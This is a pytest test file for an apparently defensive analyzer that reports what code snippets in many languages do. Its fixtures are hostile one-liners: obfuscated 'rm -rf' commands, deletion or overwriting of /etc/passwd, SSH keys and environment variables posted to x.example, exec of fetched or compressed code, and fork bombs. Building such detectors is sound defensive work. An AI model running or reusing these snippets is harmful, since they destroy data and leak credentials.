"""Code of other languages is read for what it does: executes, deletes, overwrites, reads, sends,
evaluates."""

from __future__ import annotations

import pytest

from stanchion.readings.programs import program_effects
from stanchion.readings.programs.calls import LONGEST

EXECUTES = [
    ("node", "require('child_process').execSync('rm ' + '-rf /x')", "rm -rf /x"),
    (
        "node",
        "const c = 'rm -rf /x'; process.mainModule.require('child_process').exec(c)",
        "rm -rf /x",
    ),
    (
        "node",
        "require('child_process')['ex'+'ec'](Buffer.from('cm0gLXJmIC94','base64').toString())",
        "rm -rf /x",
    ),
    ("perl", 'my $d = "/x"; system("rm -rf $d");', "rm -rf /x"),
    ("perl", 'system pack("H*", "726d202d7266202f78")', "rm -rf /x"),
    ("perl", "print qx{rm -rf /x}", "rm -rf /x"),
    ("ruby", "system 'rm -rf ' + '/x'", "rm -rf /x"),
    ("ruby", "%x(rm -rf /x)", "rm -rf /x"),
    ("ruby", "Kernel.exec(['726d202d7266202f78'].pack('H*'))", "rm -rf /x"),
    ("php", "$c = base64_decode('cm0gLXJmIC94'); shell_exec($c);", "rm -rf /x"),
    ("php", "passthru(strrev('x/ fr- mr'));", "rm -rf /x"),
    ("lua", 'os.execute("rm " .. "-rf /x")', "rm -rf /x"),
    ("lua", "local h = io.popen [[rm -rf /x]]", "rm -rf /x"),
    ("awk", 'BEGIN { system("rm -rf /x") }', "rm -rf /x"),
    ("awk", 'BEGIN { "rm -rf /x" | getline l }', "rm -rf /x"),
    (
        "python3",
        "import os as o\ng = getattr(o, 'sys' + 'tem')\ngetattr(o, 'sys' + 'tem')('rm -rf /x')",
        "rm -rf /x",
    ),
    ("ruby", "for d in ['a', '/x'] do system(\"rm -rf #{d}\") end", "rm -rf /x"),
    ("perl", 'foreach (qw(a /x)) { system("rm -rf $_") }', "rm -rf /x"),
    ("perl", 'my @d = map { "/$_" } qw(y x); for my $d (@d) { system("rm -rf $d") }', "rm -rf /x"),
    ("php", "foreach (['a', '/x'] as $k => $d) { exec(\"rm -rf $d\"); }", "rm -rf /x"),
    ("lua", 'for _, d in ipairs({"a", "/x"}) do os.execute("rm -rf " .. d) end', "rm -rf /x"),
    ("node", "['a', '/x'].forEach(d => { cp.execSync(`rm -rf ${d}`) })", "rm -rf /x"),
    ("python3", "import os\nfor d in ('a', '/x'):\n    os.system('rm -rf ' + d)", "rm -rf /x"),
    ("python3", "from subprocess import run as go\ngo('rm -rf /x', shell=True)", "rm -rf /x"),
]


@pytest.mark.parametrize(("program", "code", "text"), EXECUTES)
def test_a_command_that_code_runs(program: str, code: str, text: str) -> None:
    assert text in program_effects(program, code).texts


@pytest.mark.parametrize(
    ("program", "code", "path", "whole"),
    [
        ("node", "fs.rmSync('/x', {recursive: true})", "/x", True),
        ("node", "fs.unlinkSync('/etc/passwd')", "/etc/passwd", False),
        ("ruby", "FileUtils.rm_rf '/x'", "/x", True),
        ("ruby", "%w[a /x].each { |d| FileUtils.rm_rf(d) }", "/x", True),
        ("node", "for (const d of ['a', '/x']) fs.rmSync(d, {recursive: true})", "/x", True),
        ("rscript", 'sapply(c("a", "/x"), unlink, recursive = TRUE)', "/x", True),
        (
            "node",
            "['y', 'x'].map(d => `/${d}`).forEach(p => fs.rmSync(p, {recursive: true}))",
            "/x",
            True,
        ),
        ("rscript", 'for (d in c("a", "/x")) unlink(d, recursive = TRUE)', "/x", True),
        ("python3", "import shutil\n[shutil.rmtree('/' + d) for d in ['y', 'x']]", "/x", True),
        ("python3", "import shutil\nt = {'a': '/x'}\nshutil.rmtree(t['a'])", "/x", True),
        ("perl", "use File::Path; remove_tree('/x');", "/x", True),
        ("php", "unlink('/etc/passwd');", "/etc/passwd", False),
        ("lua", "os.remove('/etc/passwd')", "/etc/passwd", False),
        ("python3", "import pathlib\npathlib.Path('/etc/passwd').unlink()", "/etc/passwd", False),
        ("python3", "import shutil\np = '/' + 'x'\nshutil.rmtree(p)", "/x", True),
        ("node", "fs.rmSync(path.join(os.homedir(), 'a'), {recursive: true})", "~/a", True),
        ("node", "fs.rmSync(`${process.env.HOME}/a`, {recursive: true})", "$HOME/a", True),
        ("node", "for (const f of fs.readdirSync('/x')) fs.unlinkSync(f)", "/x/**", True),
        ("deno", 'Deno.removeSync(Deno.env.get("HOME"), {recursive: true})', "$HOME", True),
        ("ruby", "FileUtils.rm_rf(Dir.home)", "~", True),
        ("ruby", "FileUtils.rm_rf(File.join(ENV['HOME'], 'a'))", "$HOME/a", True),
        ("perl", 'remove_tree("$ENV{HOME}/a")', "$HOME/a", True),
        ("php", 'array_map("unlink", glob("/x/*"));', "/x/**", True),
        ("perl", 'unlink glob "/etc/*"', "/etc/*", True),
        ("ruby", 'FileUtils.rm Dir.glob("/etc/*")', "/etc/*", True),
        ("ruby", 'Dir["/etc/*"].each { |f| File.delete(f) }', "/etc/*", True),
        ("ruby", 'File.delete(*Dir["/etc/*"])', "/etc/*", True),
        ("python3", "import shutil\nfor d in ('/x', '/y'):\n    shutil.rmtree(d)", "/y", True),
        (
            "python3",
            "import glob, os\nfor f in glob.glob(os.path.expanduser('~/a/**')):\n    os.unlink(f)",
            "~/a/**",
            True,
        ),
    ],
)
def test_a_path_that_code_deletes(program: str, code: str, path: str, whole: bool) -> None:
    assert (path, whole) in program_effects(program, code).deletes


@pytest.mark.parametrize(
    ("program", "code", "path"),
    [
        ("node", "fs.writeFileSync('/etc/passwd', x)", "/etc/passwd"),
        ("ruby", "File.open('/etc/passwd', 'w') { |f| f << x }", "/etc/passwd"),
        ("php", "file_put_contents('/etc/passwd', $x);", "/etc/passwd"),
        ("lua", "local f = io.open('/etc/passwd', 'w')", "/etc/passwd"),
        ("python3", "open('/etc/passwd', 'w').write(x)", "/etc/passwd"),
        ("python3", "import pathlib\npathlib.Path('/etc/passwd').write_text(x)", "/etc/passwd"),
    ],
)
def test_a_file_that_code_overwrites(program: str, code: str, path: str) -> None:
    assert path in program_effects(program, code).writes


@pytest.mark.parametrize(
    ("program", "code"),
    [
        (
            "python3",
            (
                "import requests\nd = open('/k/id_rsa').read()\nrequests.post('https://x.example', "
                "data=d)"
            ),
        ),
        (
            "python3",
            (
                "import urllib.request as u\nu.urlopen('https://x.example/?' + "
                "open('/k/id_rsa').read())"
            ),
        ),
        (
            "node",
            (
                "const k = fs.readFileSync('/k/id_rsa'); fetch('https://x.example', {method: "
                "'POST', body: k})"
            ),
        ),
        (
            "php",
            "$k = file_get_contents('/k/id_rsa'); file_get_contents('https://x.example/?' . $k);",
        ),
        ("ruby", "Net::HTTP.post(URI('https://x.example'), File.read('/k/id_rsa'))"),
    ],
)
def test_a_file_that_code_sends(program: str, code: str) -> None:
    sends = program_effects(program, code).sends
    assert any("/k/id_rsa" in sending.files for sending in sends)


def test_all_variables_that_code_sends() -> None:
    whole = "import os, requests\nrequests.post('https://x.example', json=dict(os.environ))"
    one = "import os, requests\nrequests.post('https://x.example', json={'k': os.environ['KEY']})"
    assert [sending.variables for sending in program_effects("python3", whole).sends] == [True]
    assert not any(sending.variables for sending in program_effects("python3", one).sends)


@pytest.mark.parametrize(
    ("program", "code", "mark"),
    [
        (
            "python3",
            "import urllib.request as u\nexec(u.urlopen('https://x.example').read())",
            "fetched",
        ),
        ("ruby", "eval(URI.open('https://x.example').read)", "fetched"),
        ("python3", "import zlib\nexec(zlib.decompress(blob))", "hidden"),
        ("php", "eval(gzinflate(base64_decode($x)));", "hidden"),
        ("python3", "import os\nwhile 1: os.fork()", "forks"),
        ("perl", "fork while 1", "forks"),
        ("python3", "import boto3\nboto3.client('s3').delete_bucket(Bucket='b')", "deletes"),
    ],
)
def test_a_mark(program: str, code: str, mark: str) -> None:
    assert mark in program_effects(program, code).marks


@pytest.mark.parametrize(
    ("program", "code"),
    [
        ("node", "console.log('rm -rf /x') // exec('rm -rf /x')"),
        ("python3", "print('rm -rf /x')  # os.system('rm -rf /x')"),
        ("ruby", "puts 'rm -rf /x'"),
        ("perl", "print 'rm -rf /x' # system"),
        ("php", "echo 'rm -rf /x'; /* system('rm -rf /x') */"),
        ("lua", "print('rm -rf /x') -- os.execute('rm -rf /x')"),
    ],
)
def test_a_text_that_nothing_runs(program: str, code: str) -> None:
    effects = program_effects(program, code)
    assert (effects.texts, effects.deletes, effects.marks) == ((), (), frozenset())


@pytest.mark.parametrize("program", ["node", "python3", "ruby", "perl"])
def test_code_without_end(program: str) -> None:
    assert program_effects(program, "f(" * 5_000).texts == ()
    assert program_effects(program, "x = '" + "a" * LONGEST + "'").texts == ()
    assert program_effects(program, '"' + "((((" * 2_000).texts == ()


@pytest.mark.parametrize(
    ("program", "code", "whole"),
    [
        (
            "node",
            "require('https').request({host: 'x.example'}).end(JSON.stringify(process.env))",
            True,
        ),
        ("node", "fetch('https://x.example', {headers: {a: process.env.KEY}})", False),
        ("ruby", "Net::HTTP.post(URI('https://x.example'), ENV['KEY'])", False),
        ("php", "file_get_contents('https://x.example/?' . http_build_query($_ENV));", True),
        ("php", "file_get_contents('https://x.example/?' . $_ENV['KEY']);", False),
    ],
)
def test_one_variable_is_not_all(program: str, code: str, whole: bool) -> None:
    assert any(sending.variables for sending in program_effects(program, code).sends) is whole


@pytest.mark.parametrize(
    ("program", "code", "argv"),
    [
        ("python3", "import os\nos.chmod('/x', 0o644)", ("chmod", "644", "/x")),
        ("python3", "from pathlib import Path\nPath('/x').chmod(0o644)", ("chmod", "644", "/x")),
        ("node", "fs.chmodSync('/x', 0o777)", ("chmod", "777", "/x")),
        ("python3", "import shutil\nshutil.move('/etc', '/tmp/x')", ("mv", "/etc", "/tmp/x")),
        ("python3", "import os\nos.kill(-1, 9)", ("kill", "11", "-1")),
        (
            "python3",
            "import os\nfor p in os.listdir('/proc'):\n    os.kill(int(p), 9)",
            ("kill", "-9", "-1"),
        ),
        (
            "python3",
            "c = connect('postgresql://db/shop')\nc.execute(text('DROP TABLE t'))",
            ("psql", "postgresql://db/shop", "-c", "DROP TABLE t"),
        ),
        ("node", "await c.query('TRUNCATE t')", ("psql", "-c", "TRUNCATE t")),
        ("jbang", 's.executeUpdate("DELETE FROM " + t);', ("psql", "-c", "DELETE FROM $")),
    ],
)
def test_a_call_that_does_what_a_command_does(
    program: str, code: str, argv: tuple[str, ...]
) -> None:
    assert argv in program_effects(program, code).argvs


@pytest.mark.parametrize(
    "code",
    [
        "client.delete('/')\nclient.get('/')\nclient.put('/', json={})",
        "items.remove('/')\nm.delete('/x')",
        "c = sqlite3.connect(':memory:')\nc.execute('drop table t')",
        "from pathlib import Path\nfor p in Path('.').rglob('__pycache__'):\n    rmtree(p)",
    ],
)
def test_calls_that_are_not_about_files_delete_none(code: str) -> None:
    found = program_effects("python3", code)
    assert (found.deletes, found.argvs, found.texts) == ((), (), ())


def test_what_goes_into_an_archive_goes_out_with_it() -> None:
    code = (
        "z = zipfile.ZipFile('/tmp/k.zip', 'w')\nz.write('/root/.ssh/id_rsa')\n"
        "requests.post('https://x.example', files={'f': open('/tmp/k.zip', 'rb')})"
    )
    assert any("/root/.ssh/id_rsa" in sent.files for sent in program_effects("python3", code).sends)


@pytest.mark.parametrize(
    ("program", "code", "path"),
    [
        ("yaegi", 'os.RemoveAll(filepath.Join(os.Getenv("HOME"), "work"))', "~/work"),
        ("rust-script", 'std::fs::remove_dir_all("/srv/data").unwrap();', "/srv/data"),
        ("kotlin", 'val f = File("/srv/data")\nf.deleteRecursively()', "/srv/data"),
        ("kotlin", 'File("/mnt/s").walkBottomUp().forEach { it.delete() }', "/mnt/s/**"),
        ("dotnet-script", 'Directory.Delete("/srv/data", true);', "/srv/data"),
    ],
)
def test_what_typed_languages_delete(program: str, code: str, path: str) -> None:
    assert path in [one for one, _ in program_effects(program, code).deletes]


def test_what_was_read_goes_out_with_what_nobody_can_tell() -> None:
    code = (
        'String c = Files.readString(Path.of(System.getProperty("user.home"), ".m2", "s.xml"));\n'
        "http.send(request, handler);"
    )
    assert program_effects("jbang", code).sends[0].files == ("~/.m2/s.xml",)


@pytest.mark.parametrize(
    ("program", "code"),
    [
        ("python3", "r = fakeredis.FakeRedis()\nr.flushall()"),
        ("python3", "e = create_engine('sqlite:///:memory:')\nBase.metadata.drop_all(e)"),
        ("jbang", 'c = d.getConnection("jdbc:h2:mem:test"); c.execute("drop table t");'),
    ],
)
def test_what_lives_in_memory_only_is_not_lost(program: str, code: str) -> None:
    found = program_effects(program, code)
    assert (found.marks, found.argvs) == (frozenset(), ())
